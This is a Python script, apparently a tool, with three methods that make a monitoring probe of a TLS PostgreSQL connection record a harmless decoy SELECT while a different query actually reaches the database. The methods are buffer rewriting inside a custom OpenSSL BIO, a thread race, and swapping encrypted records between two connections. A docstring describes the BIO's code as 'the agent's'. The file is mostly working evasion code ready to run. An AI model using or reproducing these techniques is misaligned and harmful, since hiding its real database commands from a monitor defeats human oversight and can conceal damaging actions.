"""tls_lies.py WAY TEXT: have a probe find a harmless statement where another one is sent."""

from __future__ import annotations

import ctypes
import sys
import threading
from typing import Any

import pg  # type: ignore[import-not-found] # it lies beside this script
import pgtls  # type: ignore[import-not-found]

TRIES = 2000
_SOURCE_SINK, _FLUSH = 0x400, 11
_TRANSFER = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int)
_CONTROL = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p, ctypes.c_int, ctypes.c_long, ctypes.c_void_p)


class OwnBio:
    """A BIO on a socket whose code is the agent's: ``send`` gets each piece of ciphertext, within the call."""

    def __init__(self, tls: pgtls.Tls) -> None:
        self.tls = tls
        self.send: Any = tls.socket.sendall
        method = tls.openssl.BIO_meth_new(_SOURCE_SINK, b"own")
        self._kept = _TRANSFER(self._write), _TRANSFER(self._read), _CONTROL(lambda _, what, *__: what == _FLUSH)
        tls.openssl.BIO_meth_set_write(method, self._kept[0])
        tls.openssl.BIO_meth_set_read(method, self._kept[1])
        tls.openssl.BIO_meth_set_ctrl(method, self._kept[2])
        bio = tls.openssl.BIO_new(method)
        tls.openssl.BIO_set_init(bio, 1)
        tls.openssl.SSL_set_bio(tls.ssl, bio, bio)

    def _write(self, _: int, data: int, length: int) -> int:
        self.send(ctypes.string_at(data, length))
        return length

    def _read(self, _: int, buffer: int, size: int) -> int:
        data = self.tls.socket.recv(size)
        ctypes.memmove(buffer, data, len(data))
        return len(data)


def decoy(message: bytes) -> bytes:
    """Return a Query message of the same length that looks harmless."""
    return message[:5] + b"SELECT '" + b"x" * (len(message) - 15) + b"'\0"


def rewritten(text: str) -> None:
    """Rewrite the buffer as soon as its ciphertext is there, in code of one's own that the library calls."""
    tls = pgtls.Tls()
    bio = OwnBio(tls)
    tls.connect()
    say = tls.plainly()
    pgtls.begin(say)
    message = pg.query(text)
    buffer = ctypes.create_string_buffer(message, len(message))

    def send(ciphertext: bytes) -> None:
        tls.socket.sendall(ciphertext)
        ctypes.memmove(buffer, decoy(message), len(message))

    bio.send = send
    pgtls.must(tls.openssl.SSL_write(tls.ssl, buffer, len(message)))
    bio.send = tls.socket.sendall
    pgtls.ready(say)
    say.write(pgtls.TERMINATE)
    tls.end()


def race(text: str) -> None:
    """Rewrite it from a second thread, again and again, with nothing but luck."""
    sys.setswitchinterval(1e-6)
    tls = pgtls.Tls().connect()
    say = tls.plainly()
    pgtls.begin(say)
    messages = [pg.query(f"{text} -- {number}") for number in range(TRIES)]
    buffer = ctypes.create_string_buffer(len(messages[-1]))
    sending, rewritten = threading.Semaphore(0), threading.Semaphore(0)

    def rewrite() -> None:
        for message in messages:
            sending.acquire()
            ctypes.memmove(buffer, decoy(message), len(message))
            rewritten.release()

    second = threading.Thread(target=rewrite)
    second.start()
    for message in messages:
        ctypes.memmove(buffer, message, len(message))
        sending.release()
        pgtls.must(tls.openssl.SSL_write(tls.ssl, buffer, len(message)))
        rewritten.acquire()
        pgtls.ready(say)
    second.join()
    say.write(pgtls.TERMINATE)
    tls.end()


def exchanged(text: str) -> None:
    """Have something harmless encrypted for a second connection, and send another record in place of the one made."""
    hidden, shown = pgtls.Tls().connect(), pgtls.Tls()
    bio = OwnBio(shown)
    shown.connect()
    quietly, say = hidden.by_bio(), shown.plainly()
    messages = [pg.hello(), pg.query(text), pgtls.TERMINATE]

    def send(_: bytes) -> None:
        quietly.write(messages.pop(0))

    bio.send = send
    for message in (messages[0], decoy(messages[1]), messages[2]):
        say.write(message)
        if messages:
            pgtls.ready(quietly)
    hidden.end()


WAYS = {way.__name__: way for way in (rewritten, race, exchanged)}

if __name__ == "__main__":
    WAYS[sys.argv[1]](sys.argv[2])
